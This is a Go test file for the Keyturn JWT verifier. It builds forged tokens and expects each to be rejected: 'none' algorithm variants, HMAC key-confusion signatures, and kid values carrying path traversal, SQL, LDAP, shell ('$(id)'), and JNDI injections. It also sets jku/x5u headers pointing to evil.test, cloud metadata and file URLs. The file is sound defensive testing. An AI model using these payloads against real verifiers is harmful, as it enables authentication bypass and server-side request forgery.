package tokentest

import (
	"crypto/hmac"
	"crypto/sha256"
	"crypto/sha512"
	"encoding/json"
	"hash"
	"maps"
	"slices"
	"strings"

	"github.com/keyturn/keyturn/internal/policy"
)

// foreignAlgorithms are all that Keyturn does not sign with, and spellings of those that it does.
var foreignAlgorithms = map[string][]string{
	"RFC 7518 §3.6": {"none"}, "CVE-2020-15957": {"None", "NONE", "nOnE", "noNe"}, "CVE-2018-1000531": {"none ", "none\u0000", "non\u0435"},
	"RFC 7518 §3.2": {"HS256", "HS384", "HS512"}, "RFC 7518 §3.3": {"RS384", "RS512"}, "RFC 7518 §3.4": {"ES384", "ES512"}, "RFC 7518 §3.5": {"PS384", "PS512"},
	"RFC 8812 §3.2": {"ES256K"}, "RFC 8812 §2": {"RS1"}, "RFC 9864 §2.2": {"Ed25519", "Ed448"}, "RFC 9864 §2.1": {"ESP256", "ESB256"}, "RFC 7518 §4.1": {"dir", "RSA-OAEP", "RSA1_5", "A128KW", "PBES2-HS256+A128KW", "ECDH-ES"},
	"RFC 7515 §4.1.1": {"", " ", "rs256", "ps256", "es256", "eddsa", "EDDSA", "Rs256", "RS-256", "RS256,none", "RS256\u0000", " RS256", "RS256 ", "ＲＳ256", "SHA256withRSA", "RSA", "ECDSA", "*", "null", "undefined"},
	"RFC 8725 §3.2":   {"RSASSA-PKCS1-v1_5", "http://www.w3.org/2000/09/xmldsig#hmac-sha1", "1.2.840.113549.1.1.11", "ML-DSA-44", "../../HS256"},
}

const mismatch = policy.AlgorithmMismatch

// algorithmAttacks name another algorithm; the signature is the key's own and good.
func algorithmAttacks() []attack {
	attacks := []attack{
		{"alg", "missing", "RFC 7515 §4.1.1", mismatch, noHeader("alg"), nil},
		{"alg", "in the payload only", "RFC 7515 §4.1.1", mismatch, func(f *forged) { f.payload["alg"] = f.key.Algorithm; delete(f.header, "alg") }, nil},
		{"alg", "twice", "RFC 7515 §4", malformed, headerText(inside(`"alg":"none"`)), nil},
		{"alg", "twice, the second wins", "RFC 7515 §4", malformed, headerText(func(s string) string { return s[:len(s)-1] + `,"alg":"none"}` }), nil},
		{"alg", "none and an empty signature", "CVE-2021-22160", malformed, all(header("alg", "none"), segment(2, become(""))), nil},
		{"alg", "none and no last dot", "CVE-2024-48916", malformed, all(header("alg", "none"), text(func(s string) string { return s[:strings.LastIndexByte(s, '.')] })), nil},
		{"alg", "none and a signature of one byte", "RFC 7518 §3.6", mismatch, all(header("alg", "none"), fixed([]byte{0})), nil},
		{"alg", "PSS for a key of PKCS #1", "RFC 8725 §3.1", mismatch, signedAs("PS256"), onRS},
		{"alg", "PKCS #1 for a key of PSS", "RFC 8725 §3.1", mismatch, signedAs("RS256"), onPS},
	}
	for name, value := range map[string]any{"null": nil, "number": 256, "true": true, "object": map[string]any{}, "array of none": []string{"none"}} {
		attacks = append(attacks, attack{"alg", name, "RFC 7515 §4.1.1", mismatch, header("alg", value), nil})
	}
	attacks = append(attacks, attack{"alg", "array of the right one", "RFC 7515 §4.1.1", mismatch, func(f *forged) { f.header["alg"] = []string{f.key.Algorithm} }, nil})
	for _, source := range slices.Sorted(maps.Keys(foreignAlgorithms)) {
		for _, name := range foreignAlgorithms[source] {
			attacks = append(attacks, attack{"alg", "named " + name, source, mismatch, header("alg", name), nil})
		}
	}
	for _, other := range []string{"RS256", "PS256", "ES256", "EdDSA"} {
		var rest []string
		for _, own := range []string{"RS256", "PS256", "ES256", "EdDSA"} {
			if own != other {
				rest = append(rest, own)
			}
		}
		attacks = append(attacks, attack{"alg", other + " for a key of another", "RFC 8725 §3.1", mismatch, header("alg", other), rest})
	}
	return attacks
}

// signedAs signs by another scheme of the same kind of key and says so.
func signedAs(algorithm string) func(*forged) {
	return func(f *forged) {
		f.header["alg"] = algorithm
		f.signature = func(input string, _ []byte) []byte { return f.key.sign(algorithm, input) }
	}
}

func mac(h func() hash.Hash, key []byte, input string) []byte {
	m := hmac.New(h, key)
	m.Write([]byte(input))
	return m.Sum(nil)
}

// confusionAttacks sign by HMAC with what everybody knows.
func confusionAttacks(key *Key) []attack {
	sources := map[string]string{
		"PEM": "CVE-2015-9235", "PEM without the last line break": "CVE-2016-10555", "DER": "CVE-2022-29217", "JWK": "CVE-2024-54150", "JWKS": "CVE-2024-37568", "kid": "CVE-2022-23541",
		"nothing": "CVE-2019-20933", "PKCS #1 PEM": "CVE-2017-11424", "modulus": "CVE-2016-5431", "point": "CVE-2024-33663", "coordinate x": "CVE-2023-48238", "point in hexadecimal": "CVE-2024-33663",
	}
	hashes := map[string]func() hash.Hash{"HS256": sha256.New, "HS384": sha512.New384, "HS512": sha512.New}
	forms := key.publicForms()
	var attacks []attack
	for _, form := range slices.Sorted(maps.Keys(forms)) {
		for _, alg := range slices.Sorted(maps.Keys(hashes)) {
			signed := signature(func(input string, _ []byte) []byte { return mac(hashes[alg], forms[form], input) })
			attacks = append(attacks, attack{"confusion", alg + " with " + form, sources[form], mismatch, all(header("alg", alg), signed), nil})
			if alg == "HS256" {
				attacks = append(attacks, attack{"confusion", "HMAC with " + form + " under the right alg", sources[form], policy.BadSignature, signed, nil})
			}
		}
	}
	return attacks
}

const unknown = policy.UnknownKey

// kidAttacks name no key, another's, or something that a careless look-up acts on.
var kidAttacks = []attack{
	{"kid", "missing", "RFC 7515 §4.1.4", unknown, noHeader("kid"), nil},
	{"kid", "empty", "RFC 7515 §4.1.4", unknown, header("kid", ""), nil},
	{"kid", "null", "RFC 7515 §4.1.4", unknown, header("kid", nil), nil},
	{"kid", "number", "RFC 7515 §4.1.4", unknown, header("kid", 0), nil},
	{"kid", "array of the right one", "RFC 7515 §4.1.4", unknown, func(f *forged) { f.header["kid"] = []string{f.key.KID} }, nil},
	{"kid", "object", "RFC 7515 §4.1.4", unknown, header("kid", map[string]any{"$ne": ""}), nil},
	{"kid", "twice", "RFC 7515 §4", malformed, headerText(inside(`"kid":"x"`)), nil},
	{"kid", "of no key", "RFC 8725 §3.10", unknown, header("kid", "no-such-key"), nil},
	{"kid", "in the payload only", "RFC 7515 §4.1.4", unknown, func(f *forged) { f.payload["kid"] = f.key.KID; delete(f.header, "kid") }, nil},
	{"kid", "upper case", "RFC 7515 §5.3", unknown, func(f *forged) { f.header["kid"] = strings.ToUpper(f.key.KID) }, nil},
	{"kid", "space behind it", "RFC 7515 §5.3", unknown, func(f *forged) { f.header["kid"] = f.key.KID + " " }, nil},
	{"kid", "space before it", "RFC 7515 §5.3", unknown, func(f *forged) { f.header["kid"] = " " + f.key.KID }, nil},
	{"kid", "NUL behind it", "RFC 8725 §3.10", unknown, func(f *forged) { f.header["kid"] = f.key.KID + "\x00" }, nil},
	{"kid", "line break behind it", "RFC 8725 §3.10", unknown, func(f *forged) { f.header["kid"] = f.key.KID + "\n" }, nil},
	{"kid", "cut short", "RFC 7515 §5.3", unknown, func(f *forged) { f.header["kid"] = f.key.KID[:len(f.key.KID)-1] }, nil},
	{"kid", "padded", "RFC 7638 §3", unknown, func(f *forged) { f.header["kid"] = f.key.KID + "=" }, nil},
	{"kid", "path to an empty file", "RFC 8725 §3.10", unknown, header("kid", "../../../../dev/null"), nil},
	{"kid", "path to a known file", "RFC 8725 §3.10", unknown, header("kid", "/proc/sys/kernel/randomize_va_space"), nil},
	{"kid", "path of another system", "RFC 8725 §3.10", unknown, header("kid", `..\..\windows\win.ini`), nil},
	{"kid", "path encoded twice", "RFC 8725 §3.10", unknown, header("kid", "%252e%252e%252fetc%252fpasswd"), nil},
	{"kid", "SQL", "RFC 8725 §3.10", unknown, header("kid", "x' UNION SELECT 'AA'--"), nil},
	{"kid", "LDAP", "RFC 8725 §3.10", unknown, header("kid", "*)(uid=*"), nil},
	{"kid", "shell", "RFC 8725 §3.10", unknown, header("kid", "x|/usr/bin/id;$(id)`id`"), nil},
	{"kid", "address", "RFC 8725 §3.10", unknown, header("kid", "https://evil.test/jwks.json"), nil},
	{"kid", "template", "RFC 8725 §3.10", unknown, header("kid", "${jndi:ldap://evil.test/x}{{7*7}}"), nil},
	{"kid", "prototype", "RFC 8725 §3.10", unknown, header("kid", "__proto__"), nil},
	{"kid", "format", "RFC 8725 §3.10", unknown, header("kid", "%s%n%x"), nil},
	{"kid", "long", "RFC 8725 §3.10", unknown, header("kid", strings.Repeat("k", 4000)), nil},
	{"kid", "of a key of another algorithm", "RFC 8725 §3.1", mismatch, func(f *forged) { f.header["kid"] = f.other().KID }, nil},
	{"kid", "of a key of another algorithm, and its alg", "RFC 8725 §3.1", policy.BadSignature, func(f *forged) { f.header["kid"], f.header["alg"] = f.other().KID, f.other().Algorithm }, nil},
	{"kid", "ours, signed by another key of ours", "RFC 7515 §5.2", policy.BadSignature, func(f *forged) {
		f.signature = func(input string, _ []byte) []byte { return f.other().sign(f.other().Algorithm, input) }
	}, nil},
	{"kid", "ours, signed by a stranger", "RFC 7515 §5.2", policy.BadSignature, func(f *forged) {
		f.signature = func(input string, _ []byte) []byte { return f.key.stranger().sign(f.key.Algorithm, input) }
	}, nil},
	{"kid", "a stranger's", "RFC 7515 §5.2", unknown, func(f *forged) {
		f.header["kid"] = "stranger"
		f.signature = func(input string, _ []byte) []byte { return f.key.stranger().sign(f.key.Algorithm, input) }
	}, nil},
}

// other is a key of the verifier with another algorithm.
func (f *forged) other() *Key {
	for _, k := range f.Others {
		if k.Algorithm != f.key.Algorithm {
			return k
		}
	}
	panic("tokentest: Setting.Others needs a key of another algorithm than " + f.key.Algorithm)
}

// headerAttacks ask the verifier for something: to fetch, to trust, to unpack.
func headerAttacks() []attack {
	attacks := []attack{
		{"jwk", "the right key", "RFC 7515 §4.1.3", policy.UnsupportedHeader, func(f *forged) { f.header["jwk"] = json.RawMessage(f.key.Public) }, nil},
		{"jwk", "a stranger's key that signed", "CVE-2018-0114", policy.UnsupportedHeader, func(f *forged) {
			f.header["jwk"] = f.key.stranger().jwk()
			f.signature = func(input string, _ []byte) []byte { return f.key.stranger().sign(f.key.Algorithm, input) }
		}, nil},
		{"jwk", "a stranger's key and no kid", "CVE-2018-0114", policy.UnsupportedHeader, func(f *forged) {
			f.header["jwk"] = f.key.stranger().jwk()
			delete(f.header, "kid")
			f.signature = func(input string, _ []byte) []byte { return f.key.stranger().sign(f.key.Algorithm, input) }
		}, nil},
		{"jwk", "a symmetric key", "CVE-2018-0114", policy.UnsupportedHeader, header("jwk", map[string]any{"kty": "oct", "k": "AA"}), nil},
		{"jwk", "null", "RFC 7515 §4.1.3", policy.UnsupportedHeader, header("jwk", nil), nil},
	}
	for _, name := range []string{"jku", "x5u"} {
		for _, url := range []string{
			"https://evil.test/jwks.json", "http://169.254.169.254/latest/meta-data/", "http://127.0.0.1:9090/", "file:///etc/passwd", "https://id.example.test@evil.test/", "gopher://127.0.0.1/", "", "//evil.test",
		} {
			attacks = append(attacks, attack{name, "address " + url, "RFC 8725 §3.10", policy.UnsupportedHeader, header(name, url), nil})
		}
	}
	for _, a := range []struct {
		name, source string
		value        any
	}{
		{"crit", "RFC 7515 §4.1.11", []string{"exp"}}, {"crit", "CVE-2025-59420", []string{"x-unknown"}}, {"crit", "RFC 7515 §4.1.11", []string{}}, {"crit", "RFC 7515 §4.1.11", []string{"alg"}},
		{"crit", "RFC 7515 §4.1.11", "b64"}, {"crit", "RFC 7515 §4.1.11", nil}, {"crit", "RFC 7515 §4.1.11", map[string]any{}},
		{"b64", "RFC 7797 §6", false}, {"b64", "RFC 7797 §6", true}, {"b64", "RFC 7797 §6", "false"},
		{"zip", "CVE-2024-28180", "DEF"}, {"zip", "RFC 8725 §3.6", ""}, {"x5c", "RFC 7515 §4.1.6", []string{"MIIB"}}, {"x5c", "RFC 7515 §4.1.6", []string{}},
		{"x5t", "RFC 7515 §4.1.7", "AAAA"}, {"x5t#S256", "RFC 7515 §4.1.8", "AAAA"}, {"cty", "RFC 7519 §5.2", "JWT"}, {"cty", "RFC 7519 §5.2", "jwt"}, {"cty", "RFC 7515 §4.1.10", "json"},
		{"enc", "RFC 8725 §2.3", "A128GCM"}, {"epk", "CVE-2016-9121", map[string]any{"kty": "EC"}}, {"apu", "RFC 7518 §4.6.1.2", "QQ"}, {"apv", "RFC 7518 §4.6.1.3", "QQ"},
		{"p2c", "CVE-2023-49290", 2_000_000_000}, {"p2s", "RFC 7518 §4.8.1.1", "AAAA"}, {"iv", "RFC 7518 §4.7.1.1", "AAAA"}, {"tag", "RFC 7518 §4.7.1.2", "AAAA"},
	} {
		attacks = append(attacks, attack{a.name, "of " + string(must(json.Marshal(a.value))), a.source, policy.UnsupportedHeader, header(a.name, a.value), nil})
	}
	return attacks
}
